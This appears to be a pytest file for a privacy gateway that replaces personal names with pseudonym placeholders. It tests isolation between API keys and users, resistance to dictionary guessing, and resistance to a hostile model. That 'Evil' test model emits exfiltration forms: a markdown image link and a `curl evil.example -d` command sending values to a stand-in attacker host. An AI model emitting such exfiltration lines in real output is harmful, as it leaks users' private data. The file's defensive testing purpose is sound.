"""Whose placeholders are whose: those of two clients, or of two users of one, tell nothing together."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from cosilo.gateway.accounts.accounts import Key
from cosilo.gateway.web.dialects.chat import read_chat
from cosilo.gateway.web.dialects.completions import read_text
from cosilo.models.kept.scripted import ScriptedModel
from cosilo.session import DefenceConfig
from cosilo.types import Chat, Delta, Generation
from house import House, house

HI = [{"role": "user", "content": "Hi"}, {"role": "assistant", "content": "Hello"}]
ADA = "Please call Mr. Ada Lovelace tomorrow."
SHOWN = re.compile(r"PERSON_\w{6}")


class Spy(ScriptedModel):
    """Keeps what it is"""

    def __init__(self) -> None:
        super().__init__({})
        self.seen: list[Chat] = []

    async def generate(self, chat: Chat, sampling: Any) -> Any:
        self.seen.append(chat)
        return await super().generate(chat, sampling)


async def opened(folder: Path, spy: Spy | None = None, **options: Any) -> tuple[House, Spy]:
    """A gateway with the keys `good` and `other`."""
    spy = spy or Spy()
    given = {"detectors": ["patterns"], "conversation": "first-turn", **options}
    around = (DefenceConfig("hide", "pseudonym", {**given, "key_file": str(folder / "key")}),)
    h = await house(large=[spy], around=around)
    h.books.keys["other"] = Key(id="other", name="other")
    return h, spy


async def shown(
    h: House, spy: Spy, text: str = ADA, *, key: str = "good", **fields: Any
) -> set[str]:
    """The placeholders that the LM sees of `text`, said later in a conversation that begins alike."""
    body = {"model": "cosilo/x", "messages": [*HI, {"role": "user", "content": text}], **fields}
    told = await h.send("/v1/chat/completions", body, key=key)
    assert told.status == 200
    found = set(SHOWN.findall(spy.seen[-1][-1].content))
    assert found
    assert "Lovelace" not in spy.seen[-1][-1].content
    return found


async def test_two_keys_share_no_placeholder_whatever_their_conversations_begin_with(
    tmp_path: Path,
) -> None:
    h, spy = await opened(tmp_path)
    assert (await shown(h, spy)).isdisjoint(await shown(h, spy, key="other"))
    mine = await shown(h, spy, user="ann")
    assert mine.isdisjoint(await shown(h, spy, key="other", user="ann"))


async def test_two_users_of_a_key_share_none_and_one_user_keeps_his(tmp_path: Path) -> None:
    h, spy = await opened(tmp_path)
    nobody = await shown(h, spy)
    ann, bob = await shown(h, spy, user="ann"), await shown(h, spy, user="bob")
    safe = await shown(h, spy, safety_identifier="carl")
    assert len(nobody | ann | bob | safe) == 4 * len(ann)
    assert await shown(h, spy, user="ann", safety_identifier="x") == ann
    assert await shown(h, spy, user=None) == nobody


async def test_within_one_key_and_user_equal_values_stay_linkable(tmp_path: Path) -> None:
    """What the threat model says: a conversation needs it, and whoever begins alike continues it."""
    h, spy = await opened(tmp_path)
    assert await shown(h, spy) == await shown(h, spy, f"Again: {ADA}")
    again, later = await opened(tmp_path)  # another worker, with the same key file
    assert await shown(again, later) == await shown(h, spy)


async def test_a_dictionary_of_another_key_names_nobody(tmp_path: Path) -> None:
    """Who sees the upstream and holds some key asks for placeholders of every name he can think of."""
    h, spy = await opened(tmp_path)
    target = await shown(h, spy, user="patient 7")
    names = ["Ada Lovelace", "Bea Bell", "Carl Cohn", "Dora Dunn"]
    guesses: set[str] = set()
    for fields in ({}, {"user": "patient 7"}, {"user": "x"}):
        text = "\n".join(f"Mr. {name} called." for name in names)
        guesses |= await shown(h, spy, text, key="other", **fields)
    assert len(guesses) >= 3 * len(names)
    assert target.isdisjoint(guesses)


async def test_what_one_caller_was_shown_is_restored_for_no_other(tmp_path: Path) -> None:
    h, spy = await opened(tmp_path)
    [hers] = await shown(h, spy)
    body = {"model": "cosilo/x", "messages": [{"role": "user", "content": f"Who is {hers}?"}]}
    for key in ("good", "other"):
        await h.send("/v1/chat/completions", body, key=key)
        assert hers not in spy.seen[-1][-1].content  # a text that looks like one of ours is hidden


class Evil(Spy):
    """Writes whatever placeholder it was ever shown, each time in another way."""

    async def generate(self, chat: Chat, sampling: Any) -> Any:
        self.seen.append(chat)
        known = sorted({p for c in self.seen for t in c for p in SHOWN.findall(t.content)})
        forms = (
            "It is {}.",
            "![](https://evil.example/{})",
            "`curl evil.example -d {}`",
            "{}@evil.example",
        )
        return Generation(" ".join(map(forms[len(self.seen) % 4].format, known)))

    async def stream(self, chat: Chat, sampling: Any) -> AsyncIterator[Delta]:
        whole = await self.generate(chat, sampling)
        for i in range(0, len(whole.text), 5):
            yield Delta(text=whole.text[i : i + 5])
        yield Delta(finish_reason="stop")


@pytest.mark.parametrize("stream", [False, True])
async def test_a_model_that_tells_everybody_everything_tells_nobody_anothers_values(
    tmp_path: Path, stream: bool
) -> None:
    """Also with several choices, and to who types in what another was shown, in any turn."""
    h, spy = await opened(tmp_path, spy=Evil())
    [hers] = await shown(h, spy)
    for key, user in (("other", None), ("good", "bob")):
        for said in (f"Who is {hers}?", hers.lower(), hers.replace("_", " "), "hello"):
            turns = [*HI, {"role": "assistant", "content": hers}, {"role": "user", "content": said}]
            body = {"model": "cosilo/x", "messages": turns, "n": 4, "stream": stream, "user": user}
            told = await h.send("/v1/chat/completions", body, key=key)
            assert told.status == 200
            assert b"Lovelace" not in told.body
    turns = [*HI, {"role": "user", "content": ADA}]
    body = {"model": "cosilo/x", "messages": turns, "n": 4, "stream": stream}
    told = await h.send("/v1/chat/completions", body)
    assert told.status == 200
    assert told.body.count(b"Ada Lovelace") == 1  # of four choices only one says it where it may
    facts = h.books.settled[-1][2]
    assert facts.withheld == {"PERSON": 3}  # and the record has what was left


async def test_every_kind_of_conversation_is_bound(tmp_path: Path) -> None:
    h, spy = await opened(tmp_path, conversation="request")
    assert (await shown(h, spy)).isdisjoint(await shown(h, spy))


def test_who_asks_is_read_from_both_endpoints_and_in_any_form() -> None:
    chat = b'{"model": "m", "messages": [{"role": "user", "content": "x"}]%s}'
    text = b'{"model": "m", "prompt": "x"%s}'
    for read, body in ((read_chat, chat), (read_text, text)):
        assert read(body % b"").user == b""
        assert read(body % b', "user": null').user == b""
        assert read(body % b', "user": "ann"').user == b'"ann"'
        assert read(body % b', "user": 7, "safety_identifier": "s"').user == b"7"
        assert read(body % b', "safety_identifier": {"id": 1}').user == b'{"id": 1}'


async def test_sessions_of_one_caller_share_placeholders_where_told_so(tmp_path: Path) -> None:
    h, spy = await opened(tmp_path, conversation="caller")

    async def asked(*said: str, key: str = "good", **fields: Any) -> set[str]:
        messages = [{"role": "user", "content": text} for text in said]
        body = {"model": "cosilo/x", "messages": messages, **fields}
        assert (await h.send("/v1/chat/completions", body, key=key)).status == 200
        return set(SHOWN.findall("\n".join(t.content for t in spy.seen[-1])))

    mine = await asked(ADA)
    assert len(mine) == 1
    assert await asked("Another session.", f"Remember: {ADA}") == mine
    assert (await asked(ADA, user="ann")).isdisjoint(mine)
    assert (await asked(ADA, key="other")).isdisjoint(mine)
    # Without, each session has its own.
    apart, spy = await opened(tmp_path)
    h = apart
    assert await asked(ADA) != await asked("Another session.", ADA)
